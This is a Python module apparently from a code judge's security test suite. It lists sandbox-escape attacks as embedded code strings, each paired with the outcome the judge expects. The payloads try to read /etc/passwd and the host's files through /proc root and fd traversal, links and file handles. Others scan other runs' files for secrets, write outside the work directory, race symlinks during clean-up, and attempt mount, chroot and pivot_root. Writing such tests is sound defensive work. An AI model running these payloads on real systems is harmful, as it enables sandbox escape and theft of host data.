"""Attacks on files: read, write, list, follow, mount."""

from __future__ import annotations

from code_judge.attack import checks as held
from code_judge.attack.model import Attack
from code_judge.jobs import Outcome
from code_judge.sandbox.levels import Level

_AT_L1 = "stat is not held by Landlock (documented)"
_WAYS = """
def ways(path):
    yield path
    for pid in ("self", os.getppid(), 1, facts["victim"], facts["supervisor"], *facts["siblings"]):
        yield f"/proc/{pid}/root{path}"
        yield f"/proc/{pid}/cwd/../../../../../../..{path}"
    attempt(os.symlink, path, "link")
    yield "link"
    attempt(os.link, path, "hard")
    yield "hard"
    attempt(os.chroot, ".")
    for fd in range(3, 40):
        yield f"/proc/self/fd/{fd}/../../../../../..{path}"
def read(path):
    with open(path, "rb") as file:
        return file.read(1 << 20)
def read_by_handle(path):
    handle = ctypes.create_string_buffer(bytes(ctypes.c_uint(128)) + bytes(132), 136)
    mount = ctypes.c_int()
    if libc.name_to_handle_at(-100, path.encode(), handle, ctypes.byref(mount), 0) == 0:
        fd = libc.open_by_handle_at(os.open("/", os.O_RDONLY), handle, 0)
        return read(fd) if fd >= 0 else None
def read_all(paths):
    for path in paths:
        for way in ways(path):
            data = attempt(read, way)
            if data:
                print(hashlib.sha256(data).hexdigest())
                secrets_in(data)
            attempt(os.unlink, "link") if way == "link" else attempt(os.unlink, "hard") if way == "hard" else None
        data = attempt(read_by_handle, path)
        if data:
            print(hashlib.sha256(data).hexdigest())
"""
_READ = _WAYS + "\nread_all(facts['files'])\n"
_WRITE = """
for folder in facts["folders"]:
    for way in (folder, f"/proc/self/root{folder}", f"/proc/{os.getppid()}/root{folder}"):
        path = way + "/" + facts["token"]
        attempt(lambda: os.close(os.open(path, os.O_WRONLY | os.O_CREAT, 0o666)))
        attempt(os.mkdir, path)
        attempt(os.symlink, "x", path)
        attempt(os.mkfifo, path)
        attempt(lambda: os.rename("own", path) if open("own", "w") else None)
        attempt(lambda: os.link("own", path))
"""
_CHANGE = """
for name in ("open_file", "secret_file"):
    path = facts[name]
    attempt(lambda: open(path, "a").write("changed"))
    attempt(os.truncate, path, 0)
    attempt(os.chmod, path, 0)
    attempt(os.utime, path)
    attempt(os.setxattr, path, "user.x", b"x")
    attempt(os.rename, path, path + ".moved")
    attempt(os.unlink, path)
"""
_CLEAN_UP = """
bait = facts["bait"]
os.makedirs("deep/er")
for name in ("one", "deep/two", "deep/er/three", " ", ".1", ".2", "-rf"):
    attempt(os.symlink, bait, name)
    attempt(os.symlink, facts["open_file"], name + "f")
    attempt(os.symlink, facts["secret_file"], name + "s")
attempt(os.symlink, bait, os.environ["TMPDIR"] + "/x")
attempt(os.chmod, "deep", 0)
if os.fork() == 0:
    end = time.monotonic() + 1
    os.setsid()
    while time.monotonic() < end:  # swaps a directory for a link while somebody cleans up
        attempt(os.mkdir, "swap")
        attempt(os.rmdir, "swap")
        attempt(os.symlink, bait, "swap")
        attempt(os.unlink, "swap")
    os._exit(0)
time.sleep(0.02)
"""
_SIBLING = """
for path in facts["sibling_files"]:
    attempt(lambda: secrets_in(open(path, "rb").read()))
    attempt(lambda: open(path, "w").write("changed"))
    attempt(lambda: os.unlink(path) or open(path, "w").write("changed"))
for top in (facts["base_dir"], "/box", "/tmp"):
    for folder, _, names in os.walk(top):
        for name in names:
            attempt(lambda: secrets_in(open(os.path.join(folder, name), "rb").read(1 << 16)))
"""
_MOUNT = """
os.mkdir("sub")
here = os.getcwd().encode()
for source, target, kind, flags in (
    (b"none", here + b"/sub", b"tmpfs", 0), (b"/", here + b"/sub", None, 4096), (here, b"/usr", None, 4096),
    (b"none", b"/", None, 32), (b"proc", here + b"/sub", b"proc", 0), (b"none", b"/", None, 1 << 14 | 1 << 20),
    (b"none", here + b"/sub", b"overlay", 0), (b"none", here, None, 4096 | 32),
):
    if libc.mount(source, target, kind, ctypes.c_ulong(flags), None) == 0:
        claim(f"mount on {target!r}")
for target in (b"/proc", here, b"/tmp", b"/box/w", b"/usr", b"/"):
    if libc.umount2(target, 2) == 0:
        claim(f"umount of {target!r}")
fs = call(430, ctypes.c_char_p(b"tmpfs"), 0)
if fs >= 0 and call(431, fs, 6, None, None, 0) == 0 and call(432, fs, 0, 0) >= 0:
    claim("fsmount")
if call(428, -100, ctypes.c_char_p(b"/"), 1) >= 0:
    claim("open_tree")
if call(155 if X86 else 41, ctypes.c_char_p(b"."), ctypes.c_char_p(b".")) == 0:
    claim("pivot_root")
if libc.chroot(b".") == 0:
    claim("chroot")
"""
_GOOD_ANSWER = '\nos.chdir(here)\nprint("good answer")\n'
_STAT = """
for path in (facts["secret_file"], "/proc/self/root" + facts["secret_file"], f"/proc/1/root{facts['secret_file']}"):
    size = attempt(lambda: os.stat(path).st_size)
    if size is not None:
        print("SIZE", size)
"""
_FILES_OUT = """
os.symlink(facts["secret_file"], "out.txt")
os.symlink(facts["bait"], "dir")
attempt(os.link, facts["secret_file"], "hard")
os.mkfifo("pipe")
os.mkdir("folder")
with open("sparse", "w") as file:
    file.truncate(60 << 20)
attempt(os.mknod, "device", 0o20666, os.makedev(1, 5))
"""
_FETCH = ("out.txt", "dir/secret.txt", "hard", "pipe", "folder", "sparse", "device", "../own.txt", "/etc/passwd")

_OK = held.outcome(Outcome.OK)
_SHARED = '["/tmp", "/var/tmp", "/dev/shm"]'
_LIBRARY = "[os.path.dirname(os.__file__), *facts['library']]"
_READ_SOURCE = (
    _WAYS
    + """
read_all([path for path in facts["files"] if path.endswith(".py")])
try:
    import code_judge.supervisor
    claim("the judge is importable")
except ImportError:
    pass
"""
)


def _into(folders: str) -> str:
    return _WRITE.replace('facts["folders"]', folders)


ATTACKS = [
    Attack("A4", "links in the work directory at clean-up", (_CLEAN_UP,)),
    Attack("A16", "read the host's files and the judge's source", (_READ,), (held.no_host_file,)),
    Attack("A23", "write outside the work directory", (_WRITE + _CHANGE,)),
    Attack("A25", "read and change another run's files", (_SIBLING,)),
    Attack("A27", "mount over the work directory", (_MOUNT + _GOOD_ANSWER,), (_OK,)),
    Attack("B1", "read /etc/passwd", (_WAYS + "\nread_all(['/etc/passwd'])\n",), (held.no_host_file,)),
    Attack("B14", "write in shared directories", (_into(_SHARED),)),
    Attack("B15", "write in the interpreter's library", (_into(_LIBRARY),)),
    Attack("B16", "read the judge's source", (_READ_SOURCE,), (held.no_host_file,)),
    Attack("B18", "mount, unmount, chroot, pivot_root", (_MOUNT,), (held.nothing_strange,)),
    Attack("C4", "ask for the size of a file outside", (_STAT,), (held.size_unknown,), since=Level.L2, below=_AT_L1),
    Attack("C8", "links, pipes and devices as files to fetch", (_FILES_OUT,), (_OK, held.files_few), fetch=_FETCH),
]  # fmt: skip
